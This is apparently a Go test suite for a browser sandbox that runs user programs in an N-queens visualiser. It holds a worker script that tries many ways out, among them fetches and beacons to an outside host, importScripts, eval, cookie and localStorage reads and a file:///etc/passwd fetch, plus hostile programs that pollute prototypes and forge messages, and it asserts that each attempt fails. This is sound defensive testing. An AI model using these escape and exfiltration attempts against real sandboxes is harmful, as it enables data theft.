//go:build !race

package web

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
)

// ran is what the sandbox reports of a program.
type ran struct {
	Steps   []int  `json:"steps"`
	Lines   []int  `json:"lines"`
	End     string `json:"end"`
	Message string `json:"message"`
	Line    int    `json:"line"`
}

// run runs a program of a user in the sandbox, for a board of 4 rows.
func (b *tab) run(program, settings string) ran {
	b.t.Helper()
	return eval[ran](b, fmt.Sprintf("import(%s).then(({ run }) => run(%s, { n: 4, all: true, %s }))",
		b.module("watch/own-sandbox.js"), quoted(program), settings))
}

// perform runs the text of a worker in the sandbox, without what stands before a program.
func (b *tab) perform(text, settings string) ran {
	b.t.Helper()
	return eval[ran](b, fmt.Sprintf("import(%s).then(({ perform }) => perform({ text: %s, begins: 1 }, { n: 4, %s }))",
		b.module("watch/own-sandbox.js"), quoted(text), settings))
}

// module returns an expression for the address of a module of the page.
func (b *tab) module(name string) string {
	if strings.HasPrefix(b.base, "file:") {
		return quoted("nqueens/" + name)
	}
	return "new URL('" + name + "', document.querySelector('script[src$=\"app.js\"]').src).href"
}

func quoted(text string) string {
	out, err := json.Marshal(text)
	if err != nil {
		panic(err) // a string
	}
	return string(out)
}

// everyWay runs a test on a server, without one, and from a file on a disk.
func everyWay(t *testing.T, d device, test func(b *tab)) {
	bothWays(t, d, test)
	t.Run("file", func(t *testing.T) {
		if testing.Short() {
			t.Skip("compiles the engine")
		}
		dir, err := offline()
		if err != nil {
			t.Fatal(err)
		}
		b := openAt(t, d, "file://"+dir)
		b.hash = "/nqueens.html#"
		test(b)
	})
}

// stranger is a host that lets every page ask it, and must never be asked.
func stranger(t testing.TB) (address string, heard func() []string) {
	t.Helper()
	var mu sync.Mutex
	var asked []string
	host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		asked = append(asked, r.Method+" "+r.URL.String())
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Cross-Origin-Resource-Policy", "cross-origin")
		w.Header().Set("Content-Type", "text/javascript")
	}))
	t.Cleanup(host.Close)
	return host.URL, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(asked)
	}
}

// attempts is a worker that tries to reach beyond the sandbox by everything that a worker
// has. It reports each attempt as its number and whether it succeeded.
const attempts = `
const host = HOST, page = PAGE;
const inner = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
const opened = (made, good) => new Promise((done, failed) => { made[good] = () => done(made); made.onerror = () => failed(made); });
const blob = inner('self.reached = true');
const ways = [
	() => fetch(host, { mode: 'no-cors' }),
	() => fetch(page + '/api/v1/known'),
	() => fetch(blob),
	() => fetch('data:text/plain,x'),
	() => { const x = new XMLHttpRequest(); x.open('GET', host, false); x.send(); },
	() => opened(new WebSocket(host.replace('http', 'ws')), 'onopen'),
	() => opened(new EventSource(host), 'onopen'),
	() => new WebTransport(host.replace('http:', 'https:')).ready,
	() => importScripts(host),
	() => importScripts('data:text/javascript,0'),
	() => importScripts(blob),
	() => import(host),
	() => import('data:text/javascript,0'),
	() => import(blob),
	() => opened(new Worker(host), 'onmessage'),
	() => opened(new Worker(inner('fetch("' + host + '").then(() => postMessage(1), close)')), 'onmessage'),
	() => (0, eval)('1'),
	() => new Function('return 1')(),
	() => new Promise((done, failed) => { setTimeout('self.timed = 1'); setTimeout(() => self.timed ? done() : failed(), 300); }),
	() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
	() => opened(indexedDB.open('x'), 'onsuccess'),
	() => caches.open('x'),
	() => navigator.storage.getDirectory(),
	() => navigator.locks.request('x', () => 1),
	() => cookieStore.getAll(),
	() => localStorage.length,
	() => document.cookie,
	() => parent.document,
	() => top.location.href,
	() => { location.href = host; if (location.href.startsWith(host)) return 1; throw 1; },
	() => navigator.sendBeacon(host),
	() => new RTCPeerConnection(),
	() => new SharedWorker(blob),
	() => navigator.serviceWorker.register(host),
	() => Notification.requestPermission().then((p) => { if (p !== 'granted') throw 1; }),
	() => fetch('file:///etc/passwd'),
];
new BroadcastChannel('nqueens').postMessage('stolen');
(async () => {
	for (const [i, way] of ways.entries()) {
		let ok = 0;
		try { await Promise.race([way(), new Promise((_, failed) => setTimeout(failed, 2500))]); ok = 1; } catch {}
		postMessage(new Uint16Array([i % 16, i * 2 + ok]));
	}
	postMessage('end');
})();`

// A program of a user can compute, and nothing else: whatever it gets hold of, the frame
// around it lets nothing through.
func TestSandboxReachesNothing(t *testing.T) {
	everyWay(t, projector, func(b *tab) {
		host, heard := stranger(b.t)
		b.forgives = "Content Security Policy"
		b.visit("/watch?n=5")
		eval[bool](b, "localStorage.setItem('secret', 'x'), window.leaks = [], new BroadcastChannel('nqueens').onmessage = (e) => leaks.push(e.data), true")
		text := strings.NewReplacer("HOST", quoted(host), "PAGE", quoted(b.base)).Replace(attempts)
		got := b.perform(text, "limit: 50000")
		check(b.t, "the worker", got.End+got.Message, "done")
		check(b.t, "attempts", len(got.Lines), strings.Count(attempts, "\n\t() =>"))
		for _, outcome := range got.Lines {
			if outcome%2 == 1 {
				b.t.Errorf("attempt %d succeeded: %s", outcome/2, strings.Split(attempts, "\n\t() =>")[outcome/2+1])
			}
		}
		check(b.t, "what another host was asked", strings.Join(heard(), ", "), "")
		check(b.t, "what the page heard", eval[int](b, "leaks.length"), 0)
	})
}

// The document of the sandbox is worth nothing to a page that opens it without a sandbox.
func TestSandboxIsNoWayIn(t *testing.T) {
	bothWays(t, projector, func(b *tab) {
		b.visit("/watch?n=5")
		got := eval[string](b, fmt.Sprintf(`(async () => {
			const frame = document.createElement('iframe');
			frame.src = new URL('own.html', %s);
			document.body.append(frame);
			await new Promise((done) => { frame.onload = done; });
			const inside = frame.contentWindow;
			try { inside.document.title; } catch { return 'apart'; }
			let workers = 0;
			inside.Worker = class { constructor() { workers++; } };
			const heard = new Promise((done) => { inside.addEventListener('message', done); });
			inside.postMessage({ text: '0', most: 1, batch: 1 }, '*', [new MessageChannel().port1]);
			await heard;
			return workers ? 'runs here' : 'idle';
		})()`, b.module("watch/own-sandbox.js")))
		if got != "apart" && got != "idle" {
			b.t.Errorf("the sandbox opened without one: %s", got)
		}
	})
}

// What a program does to itself, to the names around it, or to the steps that it reports,
// ends the program, and leaves the page as it is.
func TestSandboxHoldsHostilePrograms(t *testing.T) {
	t.Parallel()
	b := open(t, projector, "/watch?n=5")
	const soon = "limit: 700"
	const once = "signal: (window.ending = new AbortController()).signal, told: () => window.ending.abort()"
	for _, test := range []struct {
		name, program, settings string
		end, message            string
		line, steps             int
	}{
		{"endless loop", "queens.place(0, 0);\nfor (;;);", once, "stopped", "", 0, 1},
		{"endless silence", "for (;;);", soon, "slow", "", 0, 0},
		{"endless steps", "for (;;) queens.try(0, 0);", "", "full", "", 0, 95_000},
		{"endless promises", "queens.try(0, 0); (function again() { Promise.resolve().then(again); })()", once, "stopped", "", 0, 1},
		{"endless memory", "const a = []; for (;;) a.push([a.length]);", soon, "slow", "", 0, 0},
		{"too much memory", "try { new ArrayBuffer(2 ** 50); } catch {}\n'x'.repeat(2 ** 30)", "", "failed", "RangeError: Invalid string length", 2, 0},
		{"pollution", "Object.prototype.stolen = 1; Array.prototype.push = null;", "", "done", "", 0, 0},
		{"another postMessage", "globalThis.postMessage = () => {}; queens.try(1, 1)", "", "done", "", 0, 1},
		{"a declared postMessage", "function postMessage() {} queens.try(1, 1)", soon, "slow", "", 0, 0},
		{"declarations first", "var got; function Uint8Array(k) { got = typeof fetch + typeof Worker; return Array(k).fill(0); }\nthrow got", "", "failed", "undefinedundefined", 2, 0},
		{"every declaration", "function Object() {} function Reflect() {} function Array() {} function String() {} throw typeof importScripts + typeof self", "", "failed", "undefinedundefined", 1, 0},
		{"one's own n", "var n = 9, queens; throw n", "", "failed", "9", 1, 0},
		{"names from elsewhere", "throw [typeof queens.try.constructor('return 1')]", "", "failed",
			"EvalError: Evaluating a string as JavaScript violates the following Content Security Policy directive because 'unsafe-eval' is not an allowed source of script: script-src 'sha256-", 1, 0},
		{"a huge message", "throw new Error('x'.repeat(2 ** 24))", "", "failed", "Error: " + strings.Repeat("x", 184), 1, 0},
		{"null", "\nthrow null", "", "failed", "null", 2, 0},
		{"a symbol", "throw Symbol('s')", "", "failed", "Symbol(s)", 1, 0},
		{"an endless name", "throw { toString() { for (;;); } }", soon, "slow", "", 0, 0},
		{"a proxy", "throw new Proxy({}, { get() { for (;;); } })", "", "failed", "#<Object>", 1, 0},
		{"signs that reorder", "throw 'a\\u202eb\\0c\\u001b[2J'", "", "failed", "a b c [2J", 1, 0},
		{"a forged line", "throw 'line 99999: x'", "", "failed", "x", 0, 0},
		{"as Firefox says it", "throw 'uncaught exception: 7'", "", "failed", "7", 1, 0},
		{"a huge row", "queens.try(1e9, 0)", "", "failed", "rows and columns are whole numbers from 0 to 3, not 1000000000 and 0", 1, 0},
		{"no row", "\n\nqueens.try('0', { valueOf() { for (;;); } })", "", "failed", "rows and columns are whole numbers from 0 to 3, not string and object", 3, 0},
		{"a queen on a queen", "queens.place(1, 2);\nqueens.place(1, 2);", "", "failed", "there is a queen on row 1, column 2 already; remove her first", 2, 1},
		{"no queen", "queens.remove()", "", "failed", "there is no queen to remove; the board is empty", 1, 0},
		{"no solution", "for (let i = 0; i < n; i++) queens.place(i, i);\nqueens.solution()", "", "failed",
			"it is not a solution: the queens on row 0, column 0 and row 1, column 1 attack each other", 2, 4},
		{"caught", "try { queens.solution(); } catch {} queens.try(0, 0)", "", "done", "", 0, 1},
		{"another stack", "Error.prepareStackTrace = () => ':7:7\\n:99999:1'; queens.try(0, 0)", "", "done", "", 0, 1},
		{"no stack", "Error.stackTraceLimit = 0; queens.try(0, 0)", "", "done", "", 0, 1},
		{"a later step", "Promise.resolve().then(() => queens.try(0, 0))", "", "done", "", 0, 1},
		{"an open comment", "queens.try(0, 0); /*", "", "failed", "SyntaxError: Invalid or unexpected token", 1, 0},
		{"an open brace", "} queens.try(0, 0); {", "", "failed", "SyntaxError: Unexpected token '}'", 1, 0},
		{"nothing", "", "", "done", "", 0, 0},
	} {
		got := b.run(test.program, test.settings)
		if len(got.Steps) != test.steps || got.End != test.end || got.Line != test.line || !strings.HasPrefix(got.Message, test.message) || len(got.Message) > 200 {
			t.Errorf("%s: %d steps, %s in line %d: %s", test.name, len(got.Steps), got.End, got.Line, got.Message)
		}
	}
	const step = "new Uint16Array([0, 1])"
	for _, test := range []struct {
		text, end string
		steps     int // -1 for any
	}{
		{"postMessage('end')", "done", 0},
		{"postMessage({ end: 'done' })", "forged", 0},
		{"postMessage({ steps: [1, 2], end: 'done', message: 'a' })", "forged", 0},
		{"postMessage('x'.repeat(1e6))", "forged", 0},
		{"for (;;) postMessage('x'.repeat(1e6))", "forged", 0},
		{"for (;;) postMessage(new Uint16Array(200))", "full", 95_000},
		{"postMessage(new Uint16Array(1e7))", "forged", 0},
		{"postMessage(new Uint16Array([0, 1, 2]))", "forged", 0},
		{"postMessage(new Uint16Array(0))", "forged", 0},
		{"postMessage(new Float64Array([0, 1]))", "forged", 0},
		{"postMessage(new Uint16Array([16, 1]))", "forged", 0},   // beyond the board
		{"postMessage(new Uint16Array([4096, 1]))", "forged", 0}, // no kind of step
		{"postMessage(JSON.parse('{\"__proto__\": {\"stolen\": 1}}'))", "forged", 0},
		{"postMessage(" + step + "); postMessage(" + step + "); close()", "slow", -1},
		{"postMessage(" + step + "); postMessage('end'); postMessage(" + step + ")", "done", 1},
	} {
		settings := ""
		if test.end == "slow" {
			settings = soon
		}
		got := b.perform(test.text, settings)
		if got.End != test.end || test.steps >= 0 && len(got.Steps) != test.steps {
			t.Errorf("%s: %s with %d steps", test.text, got.End, len(got.Steps))
		}
	}
	check(t, "pollution", eval[string](b, "typeof ({}).stolen + typeof [].push"), "undefinedfunction")
	check(t, "frames that are left", eval[int](b, "document.querySelectorAll('iframe').length"), 0)

	// The page keeps its time, and stops a program at once.
	stopped := eval[[]float64](b, fmt.Sprintf(`(async () => {
		const { run } = await import(%s);
		const stop = new AbortController();
		const [from, ticks] = [performance.now(), setInterval(() => window.ticks = (window.ticks ?? 0) + 1, 10)];
		setTimeout(() => stop.abort(), 300);
		const { end } = await run('for (;;);', { n: 4, all: true, signal: stop.signal });
		clearInterval(ticks);
		return [Number(end === 'stopped'), window.ticks, performance.now() - from];
	})()`, b.module("watch/own-sandbox.js")))
	if stopped[0] != 1 || stopped[1] < 3 {
		t.Errorf("stopped: %v; ticks of the page meanwhile: %v; after %v ms", stopped[0], stopped[1], stopped[2])
	}
}

// A server sends the sandbox with a policy that also holds where no frame is around it.
func TestSandboxHeader(t *testing.T) {
	a := newAPI(t)
	for _, test := range []struct {
		path string
		want []string
	}{
		{"/static/watch/own.html", []string{"default-src 'none'", "script-src 'sha256-", "worker-src blob:", "sandbox allow-scripts"}},
		{"/watch", []string{"default-src 'none'", "script-src 'self'", "frame-src 'self'"}},
	} {
		policy := a.get(test.path).header.Get("Content-Security-Policy")
		for _, part := range test.want {
			if !strings.Contains(policy, part) {
				t.Errorf("%s has no %s: %s", test.path, part, policy)
			}
		}
		if strings.Contains(policy, "unsafe") || strings.Contains(policy, "allow-same-origin") || strings.Contains(policy, "*") {
			t.Errorf("%s: %s", test.path, policy)
		}
	}
	if body := string(a.get("/static/watch/own.html").body); !strings.Contains(body, "default-src 'none'; script-src 'sha256-") {
		t.Error("the document has no policy of its own")
	}
}
